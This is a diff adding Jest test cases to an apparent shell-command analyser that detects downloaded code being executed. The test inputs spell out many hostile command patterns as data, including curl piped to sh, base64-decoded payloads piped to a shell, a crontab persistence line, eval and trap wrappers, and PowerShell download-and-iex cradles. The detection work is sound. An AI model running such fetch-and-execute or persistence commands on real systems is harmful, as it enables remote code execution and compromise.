@@ -39,6 +39,15 @@ describe('the program that really runs', () => {
     ['env', 'env'],
     ['sudo', 'sudo'],
     ['conda install a', 'conda install a'],
+    ['sudo --user root setsid ionice -c3 chroot /x pip install a', 'pip install a'],
+    ['conda run -n x --no-capture-output pip install a', 'pip install a'],
+    ['uv run --with b pip install a', 'pip install a'],
+    ['docker run --rm -v a:/b -e C=d image pip install a', 'export C=d,pip install a'],
+    ['docker build .', 'docker build .'],
+    ['poetry install', 'poetry install'],
+    ['find . -name x -exec pip install a \\; -print', 'pip install a {}'],
+    ['find . -name x', 'find . -name x'],
+    ['echo a | xargs -n 1 pip install', 'echo a,pip install {}'],
     ['A=1', ''],
     ['for x in a b; do echo $x; done', 'echo $x'],
   ])('%j', (text, expected) => {
@@ -102,6 +111,14 @@ describe('what reads a command', () => {
     ['python train.py --ip $(curl x)', ''],
     ['echo "$(curl x)"', ''],
     ['bash run.sh <(curl x)', ''],
+    ['curl x | lua', 'lua'],
+    ['curl x > >(sh)', 'sh'],
+    ['curl x | tee >(gzip >a) >(sh) | cat', 'tee gzip sh cat'],
+    ['cat < >(curl x)', ''],
+    ['f() { sh; }; curl x | f', 'sh'],
+    ['f() { cat; }\ncurl x | f | sh', 'cat sh'],
+    ['f() { f | f; }; curl x | f', 'f'.repeat(16).split('').join(' ')],
+    ['f() { tee >(curl x | f); }; f', 'tee curl '.repeat(8).trim()],
   ])('%j', (text, expected) => {
     expect(readers(text)).toBe(expected);
   });
@@ -119,9 +136,40 @@ describe('scripts inside commands', () => {
     ['bash a.sh <<E\ncurl x\nE', ['bash a.sh <<E']],
     ["bash <<< 'curl x'", ['bash <<<curl x', 'curl x']],
     ["python <<E\nprint('curl x')\nE", ['python <<E']],
+    ["eval 'curl x'", ['eval curl x', 'curl x']],
+    ["trap 'curl x' EXIT", ['trap curl x EXIT', 'curl x']],
+    ["alias a='curl x'", ['alias a=curl x', 'curl x']],
+    ["ssh -q host 'curl x'", ['ssh -q host curl x', 'curl x']],
+    ["su - root -c 'curl x'", ['su - root -c curl x', 'curl x']],
+    ["parallel 'curl {}' ::: x", ['parallel curl {} ::: x', 'curl {}']],
+    ['cmd /c "curl x"', ['cmd /c curl x', 'curl x']],
+    ["find . -exec sh -c 'curl x' \\;", ['sh -c curl x {}', 'curl x']],
+    ['powershell "curl x"', ['powershell curl x', 'curl x']],
+    ['pwsh -File a.ps1 "curl x"', ['pwsh -File a.ps1 curl x']],
+    ["echo -e 'ls\\ncurl x' | sh", ['echo -e ls\\ncurl x', 'ls', 'curl x', 'sh']],
+    ["printf '%s\\n' 'curl x' | cat | bash", ['printf %s\\n curl x', 'curl x', 'cat', 'bash']],
+    ['echo curl x | grep x', ['echo curl x', 'grep x']],
+    ["echo 'curl x' | bash run.sh", ['echo curl x', 'bash run.sh']],
+    [
+      "(crontab -l; echo '0 5 * * 1-5 curl x') | crontab -",
+      ['crontab -l', 'echo 0 5 * * 1-5 curl x', 'curl x', 'crontab -'],
+    ],
+    ['echo Y3VybCBodHRwOi8v | base64 -d | sh', ['echo Y3VybCBodHRwOi8v', 'curl http://', 'base64 -d', 'sh']],
+    ['base64 -d <<< Y3VybCBodHRwOi8v | sh', ['base64 -d <<<Y3VybCBodHRwOi8v', 'curl http://', 'sh']],
+    ['echo AAECAwQFBgcICQ== | base64 -d | sh', ['echo AAECAwQFBgcICQ==', 'base64 -d', 'sh']],
+    ['pwsh -enc YwB1AHIAbAAgAHgA', ['pwsh -enc YwB1AHIAbAAgAHgA', 'base64 -enc YwB1AHIAbAAgAHgA', 'curl x']],
+    ['C="curl x"; bash -c "$C"', ['bash -c $C', 'curl x']],
+    ['C=curl; $C x | sh', ['$C x', 'curl x', 'sh']],
   ])('%j', (text, expected) => {
     expect(commands(text)).toEqual(expected);
   });
+
+  test.each(["echo 'import pickle; pickle.load(f)' | python -", 'bash -c \'python -c "import pickle; pickle.load(f)"\''])(
+    'of Python in %j',
+    (text) => {
+      expect(factsOf(read(text), 'call').map(({ callee }) => callee)).toContain('pickle.load');
+    },
+  );
 
   test.each(["python3 -c 'import pickle; pickle.load(f)'", 'python - <<E\nimport pickle\npickle.load(f)\nE'])(
     'are Python in %j',
@@ -164,6 +212,13 @@ describe('a download that is run later', () => {
     ['wget https://a.io/y; python train.py y', ''],
     ['wget https://a.io/y; python -m y', ''],
     ['wget https://a.io/y; cat y', ''],
+    ['wget https://a.io/y; sh < y', 'sh: wget https://a.io/y; sh < y'],
+    ['wget https://a.io/y; cat y | sed s/a/b/ | sh', 'sh: '],
+    ['wget https://a.io/y; eval "$(cat y)"', 'eval: '],
+    ['curl https://a.io/y | gunzip > z; bash z', 'bash: '],
+    ['curl https://a.io/y | sudo tee -a z; bash z', 'bash: '],
+    ['curl https://a.io/y > >(cat); bash y', ''],
+    ['wget https://a.io/y; bash z < y', ''],
   ])('%j', (text, expected) => {
     const found = runs(text).join();
     if (expected === '') expect(found).toBe('');
@@ -174,6 +229,49 @@ describe('a download that is run later', () => {
     expect(runs('wget https://a.io/x.sh', 'echo "', 'bash x.sh')).toEqual([
       'bash: wget https://a.io/x.sh; bash x.sh',
     ]);
+  });
+});
+
+describe('what is run apart from its pipeline', () => {
+  const run = (text: string): string[] =>
+    factsOf(read(text), 'command').flatMap(({ program, pipedInto }) =>
+      /^(?:curl|invoke-webrequest)$/.test(program) && pipedInto ? [pipedInto.join(' ')] : [],
+    );
+
+  test.each<[string, string[]]>([
+    ['x=$(curl u); eval "$x"', ['eval']],
+    ['export x=$(curl u)\nbash -c "${x}"', ['bash']],
+    ['x=`curl u | gunzip`; echo "$x" | sh', ['gunzip', 'gunzip echo sh']],
+    ['x=$(curl u); x=$(date); eval "$x"', []],
+    ['x=$(curl u); $x', ['eval']],
+    ['x=$(curl u); echo $x; pip install "$x"', []],
+    ['f() { curl u; }; f | sh', ['sh']],
+    ['function f {\n  ls\n  curl u\n}\nf', []],
+    ['function f() { curl u; }; eval "$(f)"', ['eval']],
+    ['f() { curl u; }; g() { f; }; g | sh', ['sh']],
+    ['f() { f; curl u; }; f | sh', ['sh', 'sh', 'sh', 'sh']],
+  ])('%j', (text, expected) => {
+    expect(run(text).sort()).toEqual(expected.sort());
+  });
+
+  test.each([
+    'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://a.io\')"',
+    "(New-Object Net.WebClient).DownloadString('https://a.io') | iex",
+    "iex((New-Object System.Net.WebClient).DownloadString('https://a.io'))",
+    'Invoke-Expression (Invoke-WebRequest https://a.io).Content',
+    '$s = iwr https://a.io\nls; iex $s.Content',
+    "$w = New-Object Net.WebClient; $s = $w.DownloadString('https://a.io'); IEX $s",
+    '& ([scriptblock]::Create((irm https://a.io)))',
+  ])('in the PowerShell of %j', (text) => {
+    expect(run(text)).toEqual(['iex']);
+  });
+
+  test.each([
+    '$s = iwr https://a.io\niex $t',
+    'iwr https://a.io -OutFile x; iex ls',
+    "$s = (New-Object Net.WebClient).DownloadString('https://a.io')",
+  ])('but not in %j', (text) => {
+    expect(run(text)).toEqual([]);
   });
 });
 
